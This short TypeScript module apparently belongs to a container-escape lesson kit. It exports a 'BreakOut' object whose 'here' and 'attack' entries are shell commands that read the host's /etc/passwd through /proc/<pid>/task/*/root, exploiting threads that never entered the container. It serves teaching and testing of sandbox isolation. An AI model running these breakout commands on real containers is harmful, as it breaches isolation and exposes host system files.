/** Out of lesson 1: the other threads of the same process have not gone along, and their /etc is the host's. */
import { type BreakOut, execute } from 'tsrun/lessons/kit.ts';

export default {
  // In lesson 1 the container is the program itself, the parent of this command.
  here: ['sh', '-c', 'head -qn 1 /proc/$PPID/task/*/root/etc/passwd'],
  // From lesson 2 on it is a process of its own.
  attack: (b) => execute(b, ['sh', '-c', 'head -qn 1 /proc/self/task/*/root/etc/passwd']),
} satisfies BreakOut;
